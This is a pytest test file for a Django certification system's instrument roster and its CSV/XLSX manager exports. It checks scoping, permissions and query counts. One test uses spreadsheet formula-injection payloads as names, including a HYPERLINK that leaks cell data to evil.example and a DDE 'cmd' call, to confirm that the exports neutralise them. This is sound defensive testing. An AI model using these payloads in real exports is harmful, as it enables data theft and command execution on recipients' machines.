"""The instrument roster and the exports a manager downloads: who may run each instrument
and until when, the team report, formulas neutralised, and nothing from outside the
reader's units, whatever the filters say."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from certificates import selectors, services
from certificates.models import Certificate
from learning.models import CourseModule
from tests import factories
from tests.assessments import calibration_builders as cal
from tests.certificates import builders
from tests.compliance.builders import rule, settle

pytestmark = pytest.mark.django_db

ROSTER_HEADER = [
    "employee_number",
    "instrument_key",
    "instrument_version",
    "status",
    "authorised_until",
    "certificate_number",
    "track_key",
    "name",
]


@pytest.fixture
def world(tree):
    exercise = cal.exercise()
    outline = builders.module("Instrument theory")
    track = builders.track("demo-assessor", exercise=exercise, modules=[outline])
    admin = factories.person(units=[tree["root"]], sector="other", roles=["certification_admin"])
    return {
        "tree": tree,
        "exercise": exercise,
        "outline": outline,
        "track": track,
        "admin": admin.user,
        "daycare_manager": factories.person(manages=[tree["daycare"]], units=[tree["daycare"]]),
        "school_manager": factories.person(manages=[tree["school"]], units=[tree["school"]]),
    }


def _member(world, unit="daycare", **fields):
    return factories.person(units=[world["tree"][unit]], sector="daycare", **fields)


def _certify(world, person, valid_until=None) -> Certificate:
    """Certified by an administrator (certified elsewhere): quicker than the requirements."""
    return services.certificate_issue_manual(
        person=person,
        track=world["track"],
        by=world["admin"],
        reason="Certified at the regional course",
        valid_until=valid_until,
    )


def _get(client, user, name, fmt=None, **params):
    client.force_login(user)
    url = reverse(name, args=[fmt] if fmt else [])
    return client.get(url, params)


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


def _xlsx(response) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [[c.value for c in row] for row in sheet.iter_rows()]


def _local_date(moment):
    return timezone.localdate(moment)


# --- The roster -----------------------------------------------------------------------------
def test_a_person_certified_through_the_requirements_is_on_the_roster_until_expiry(world, client):
    person = _member(world, first_name="Astrid", last_name="Holm")
    builders.complete_module(person, world["outline"])
    builders.pass_calibration(person, world["exercise"])
    certificate = Certificate.objects.get(person=person)

    [entry] = selectors.roster(person_ids=[person.pk])
    assert (entry.status, entry.until, entry.number) == (
        "valid",
        certificate.valid_until,
        certificate.number,
    )
    assert (entry.instrument_key, entry.instrument_version) == ("demo", "1.0")

    response = _get(client, world["daycare_manager"].user, "manage_roster")
    page = response.content.decode()
    assert response.status_code == 200
    assert "Demonstration instrument 1.0" in page and "Astrid Holm" in page
    assert certificate.number in page and person.employee_number in page
    assert f'datetime="{_local_date(certificate.valid_until).isoformat()}"' in page
    assert "<td>Dagtilbud Nord</td>" in page


def test_suspended_revoked_and_expired_are_off_the_roster_and_grace_shows_its_end(world, client):
    now = timezone.now()
    kept = _member(world, last_name="Kept")
    suspended, revoked = _member(world, last_name="Suspended"), _member(world, last_name="Revoked")
    expired, in_grace = _member(world, last_name="Expired"), _member(world, last_name="Graced")
    for person in (kept, suspended, revoked):
        _certify(world, person)
    _certify(world, expired, valid_until=now + timedelta(days=1))
    graced = _certify(world, in_grace, valid_until=now + timedelta(days=20))
    services.certificate_suspend(
        certificate=suspended.certificates.get(), by=world["admin"], reason="Complaint"
    )
    services.certificate_revoke(
        certificate=revoked.certificates.get(), by=world["admin"], reason="Fraud"
    )

    with time_machine.travel(now + timedelta(days=40), tick=False):
        entries = {e.person_id: e for e in selectors.roster()}
        assert set(entries) == {kept.pk, in_grace.pk}
        assert entries[in_grace.pk].status == "in_grace"
        assert entries[in_grace.pk].until == graced.grace_until  # 20 + 30 days, not 20
        rows = _csv(_get(client, world["daycare_manager"].user, "manage_export_roster", "csv"))
        page = _get(client, world["daycare_manager"].user, "manage_roster").content.decode()

    numbers = {r[0]: r for r in rows[1:]}
    assert set(numbers) == {kept.employee_number, in_grace.employee_number}
    assert numbers[in_grace.employee_number][3:5] == [
        "in_grace",
        _local_date(graced.grace_until).isoformat(),
    ]
    assert "In grace period" in page
    for gone in (suspended, revoked, expired):
        assert gone.employee_number not in page


def test_a_renewed_certificate_counts_once_with_its_new_cycle(world):
    person = _member(world)
    first = _certify(world, person, valid_until=timezone.now() + timedelta(days=5))
    with time_machine.travel(timezone.now() + timedelta(days=40), tick=False):
        second = _certify(world, person)
        [entry] = selectors.roster(person_ids=[person.pk])
    assert entry.number == second.number != first.number


def test_the_instrument_filter_keeps_one_instrument(world, client):
    other = builders.track("other-assessor", instrument=cal.instrument("other-tool"))
    person = _member(world)
    _certify(world, person)
    services.certificate_issue_manual(person=person, track=other, by=world["admin"], reason="x")
    assert {e.instrument_key for e in selectors.roster()} == {"demo", "other-tool"}
    rows = _csv(
        _get(
            client,
            world["daycare_manager"].user,
            "manage_export_roster",
            "csv",
            instrument="other-tool",
        )
    )
    assert [r[1] for r in rows[1:]] == ["other-tool"]


# --- The roster export ----------------------------------------------------------------------
def test_the_roster_csv_is_the_documented_import_format(world, client):
    person = _member(world, first_name="Bo", last_name="Nyborg")
    certificate = _certify(world, person)
    forever = _member(world, first_name="Cai", last_name="Evig")
    lasting = _certify(world, forever)
    Certificate.objects.filter(pk=lasting.pk).update(
        valid_until=None, grace_until=None, recert_opens_at=None
    )

    response = _get(client, world["daycare_manager"].user, "manage_export_roster", "csv")
    today = timezone.localdate().isoformat()
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="instrument-roster-{today}.csv"'
    )
    assert response["Cache-Control"] == "no-store"
    body = b"".join(response.streaming_content)
    assert not body.startswith(b"\xef\xbb\xbf")  # no BOM: a machine reads it
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"))))
    assert rows[0] == ROSTER_HEADER
    assert sorted(rows[1:]) == sorted(
        [
            [
                person.employee_number,
                "demo",
                "1.0",
                "valid",
                _local_date(certificate.valid_until).isoformat(),
                certificate.number,
                "demo-assessor",
                "Bo Nyborg",
            ],
            [
                forever.employee_number,
                "demo",
                "1.0",
                "valid",
                "",
                lasting.number,
                "demo-assessor",
                "Cai Evig",
            ],
        ]
    )


def test_the_roster_xlsx_holds_the_same_rows_with_dates_as_dates(world, client):
    person = _member(world, first_name="Dag", last_name="Lund")
    certificate = _certify(world, person)
    response = _get(client, world["daycare_manager"].user, "manage_export_roster", "xlsx")
    today = timezone.localdate().isoformat()
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert f'filename="instrument-roster-{today}.xlsx"' in response["Content-Disposition"]
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Cache-Control"] == "no-store"
    header, row = _xlsx(response)
    assert header == ROSTER_HEADER
    assert row[0] == person.employee_number and row[3] == "valid"
    assert row[4].date() == _local_date(certificate.valid_until)
    assert row[5:] == [certificate.number, "demo-assessor", "Dag Lund"]


# --- The team report ------------------------------------------------------------------------
def test_the_team_report_has_a_row_per_person_and_assignment(world, client):
    rule(world["outline"], organisation=world["tree"]["daycare"], due_days=30)
    done, todo = _member(world, last_name="Done"), _member(world, last_name="Todo")
    settle()
    builders.complete_module(done, world["outline"])
    settle()

    response = _get(client, world["daycare_manager"].user, "manage_export_team", "csv")
    today = timezone.localdate()
    assert response["Content-Disposition"] == (
        f'attachment; filename="team-report-{today.isoformat()}.csv"'
    )
    assert response["Cache-Control"] == "no-store"
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # for spreadsheet programs: UTF-8 is UTF-8
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == [
        "Employee number", "Name", "Units", "Kind", "Item", "Cycle", "Status", "Due on",
        "Completed on", "Mandatory", "Source",
    ]  # fmt: skip
    by_number = {r[0]: r for r in rows[1:]}
    assert by_number[done.employee_number][1:] == [
        done.full_name, "Dagtilbud Nord", "Module", "Instrument theory", "1", "Completed",
        by_number[done.employee_number][7], today.isoformat(), "yes", "Assignment rule",
    ]  # fmt: skip
    assert by_number[todo.employee_number][6] == "Not yet due"
    assert by_number[todo.employee_number][8] == ""

    only_done = _csv(
        _get(client, world["daycare_manager"].user, "manage_export_team", "csv",
             phase="completed", q="done")
    )  # fmt: skip
    assert [r[0] for r in only_done[1:]] == [done.employee_number]


def test_the_team_report_xlsx_reads_back(world, client):
    rule(world["outline"], organisation=world["tree"]["daycare"], due_days=30)
    person = _member(world, last_name="Excel")
    settle()
    header, *rows = _xlsx(_get(client, world["daycare_manager"].user, "manage_export_team", "xlsx"))
    assert header[0] == "Employee number" and len(header) == 11
    mine = [r for r in rows if r[0] == person.employee_number]
    assert len(mine) == 1 and mine[0][4] == "Instrument theory"
    assert mine[0][7].date() == timezone.localdate() + timedelta(days=30)

    # Taken off the catalogue, the module keeps its title in the report.
    CourseModule.objects.filter(pk=world["outline"].pk).update(is_live=False)
    rows = _csv(_get(client, world["daycare_manager"].user, "manage_export_team", "csv"))
    assert [r[4] for r in rows[1:] if r[0] == person.employee_number] == ["Instrument theory"]


# --- Formulas -------------------------------------------------------------------------------
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


def test_hostile_names_come_out_neutralised_in_every_export(world, client):
    rule(world["outline"], organisation=world["tree"]["daycare"], due_days=30)
    people = [_member(world, first_name=name, last_name="") for name in HOSTILE]
    settle()
    for person in people:
        _certify(world, person)
    user = world["daycare_manager"].user
    expected = {"'" + p.full_name for p in people}
    assert all(p.full_name.startswith(("=", "+", "@")) for p in people)

    assert {r[7] for r in _csv(_get(client, user, "manage_export_roster", "csv"))[1:]} == expected
    assert {r[1] for r in _csv(_get(client, user, "manage_export_team", "csv"))[1:]} >= expected
    for name, column in (("manage_export_roster", 8), ("manage_export_team", 2)):
        response = _get(client, user, name, "xlsx")
        sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        cells = [row[column - 1] for row in sheet.iter_rows(min_row=2)]
        hostile = [c for c in cells if c.value in expected]
        assert len(hostile) == 3 and {c.data_type for c in hostile} == {"s"}
        assert not any(str(c.value).startswith("=") for c in cells)


# --- Scope ----------------------------------------------------------------------------------
def _numbers(rows) -> set[str]:
    return {r[0] for r in rows[1:]}


def test_another_units_manager_gets_none_of_the_first_units_people(world, client):
    rule(world["outline"], due_days=30)  # everyone, in every unit
    daycare = [_member(world) for _ in range(2)]
    school = _member(world, unit="school")
    settle()
    for person in (*daycare, school):
        _certify(world, person)
    user = world["school_manager"].user
    daycare_numbers = {p.employee_number for p in daycare}

    for name in ("manage_export_roster", "manage_export_team"):
        rows = _csv(_get(client, user, name, "csv"))
        assert school.employee_number in _numbers(rows)
        assert not daycare_numbers & _numbers(rows)
        xlsx_numbers = {r[0] for r in _xlsx(_get(client, user, name, "xlsx"))[1:]}
        assert school.employee_number in xlsx_numbers and not daycare_numbers & xlsx_numbers
    page = _get(client, user, "manage_roster").content.decode()
    assert school.employee_number in page
    assert not any(n in page for n in daycare_numbers)


@pytest.mark.parametrize("unit", ["daycare", "jobs", "99999999", "abc", "-1"])
def test_a_unit_outside_the_scope_gives_a_header_only_never_everyone(world, client, unit):
    rule(world["outline"], due_days=30)
    people = (_member(world), _member(world, unit="jobs"))
    settle()
    for person in people:
        _certify(world, person)
    unit_id = str(world["tree"][unit].pk) if unit in world["tree"] else unit
    user = world["school_manager"].user
    for name in ("manage_export_roster", "manage_export_team"):
        assert len(_csv(_get(client, user, name, "csv", unit=unit_id))) == 1
        assert len(_xlsx(_get(client, user, name, "xlsx", unit=unit_id))) == 1
    page = _get(client, user, "manage_roster", unit=unit_id).content.decode()
    assert "No one in these units may run an instrument today." in page


def test_narrowing_to_a_unit_of_ones_own_keeps_its_people(world, client, tree):
    manager = factories.person(manages=[tree["children"]], units=[tree["children"]])
    daycare, school = _member(world), _member(world, unit="school")
    for person in (daycare, school):
        _certify(world, person)
    rows = _csv(
        _get(client, manager.user, "manage_export_roster", "csv", unit=str(tree["school"].pk))
    )
    assert _numbers(rows) == {school.employee_number}


def test_learners_may_not_see_the_roster_or_export(world, client):
    learner = _member(world)
    _certify(world, learner)
    for name, fmt in (
        ("manage_roster", None),
        ("manage_export_roster", "csv"),
        ("manage_export_team", "xlsx"),
    ):
        assert _get(client, learner.user, name, fmt).status_code == 403
    client.logout()
    assert client.get(reverse("manage_export_roster", args=["csv"])).status_code == 302


def test_an_unknown_format_is_not_found(world, client):
    client.force_login(world["daycare_manager"].user)
    assert client.get("/manage/export/roster.pdf").status_code == 404
    assert client.get("/manage/export/team.csv.xlsx").status_code == 404


def test_a_whole_organisation_reader_gets_everyone(world, client):
    reader = factories.person(units=[world["tree"]["root"]], sector="other")
    from django.contrib.auth.models import Permission

    reader.user.user_permissions.add(Permission.objects.get(codename="view_all_people"))
    people = [_member(world), _member(world, unit="school"), _member(world, unit="jobs")]
    for person in people:
        _certify(world, person)
    rows = _csv(_get(client, reader.user, "manage_export_roster", "csv"))
    assert _numbers(rows) == {p.employee_number for p in people}


# --- Query budget ---------------------------------------------------------------------------
@pytest.mark.parametrize("count", [3, 30])
def test_the_roster_and_the_exports_cost_the_same_for_3_or_30_people(
    world, client, django_assert_max_num_queries, count
):
    rule(world["outline"], organisation=world["tree"]["daycare"], due_days=30)
    people = [_member(world) for _ in range(count)]
    settle()  # the assignments (the certificates' documents are left unrendered: faster)
    for person in people:
        _certify(world, person)
    client.force_login(world["daycare_manager"].user)
    budgets = {
        reverse("manage_roster"): 15,
        reverse("manage_roster") + f"?unit={world['tree']['daycare'].pk}": 16,
        reverse("manage_export_roster", args=["csv"]): 4,
        reverse("manage_export_roster", args=["xlsx"]): 4,
        reverse("manage_export_team", args=["csv"]): 8,
        reverse("manage_export_team", args=["xlsx"]): 8,
    }
    for url, budget in budgets.items():
        with django_assert_max_num_queries(budget):
            response = client.get(url)
            content = (
                b"".join(response.streaming_content) if response.streaming else response.content
            )
        assert response.status_code == 200 and content


def test_a_nul_in_a_filter_is_a_400_not_a_500(world, client):
    user = world["daycare_manager"].user
    assert _get(client, user, "manage_export_team", "csv", q="\x00").status_code == 400
    assert _get(client, user, "manage_roster", instrument="\x00").status_code == 400
    assert _get(client, user, "manage_export_roster", "xlsx", unit="1\x00").status_code == 400
